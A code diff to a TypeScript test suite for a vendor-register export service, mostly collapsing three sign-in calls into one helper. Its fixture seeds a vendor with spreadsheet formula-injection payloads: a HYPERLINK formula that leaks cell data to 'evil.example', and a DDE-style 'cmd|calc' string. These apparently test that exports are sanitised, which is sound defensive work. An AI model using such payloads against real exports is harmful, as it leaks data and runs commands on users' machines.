@@ -30,7 +30,7 @@ import { hashEntry } from '../audit/hash-chain'
 import { openSqliteStore } from '../db/sqlite-store'
 import { createExportService } from '../services/export-service'
 import { createVendorService } from '../services/vendor-service'
-import { ApiClient, signedIn } from '../testing/api-client'
+import { ApiClient, signedIn, signedInAs } from '../testing/api-client'
 import {
   createVendor,
   daysFromToday,
@@ -92,11 +92,7 @@ describe('exports on a server with the demo register', () => {
 
   beforeAll(async () => {
     server = await startServer()
-    ;[auditor, procurement, ciso] = await Promise.all([
-      signedIn(server.url, 'auditor'),
-      signedIn(server.url, 'procurement'),
-      signedIn(server.url, 'ciso'),
-    ])
+    ;[auditor, procurement, ciso] = await signedInAs(server.url, 'auditor', 'procurement', 'ciso')
     hostileId = (
       await createVendor(procurement, '=HYPERLINK("http://evil.example/?leak="&A1,"Open") Москва', {
         owner: '@SUM(1+1)*cmd|calc',
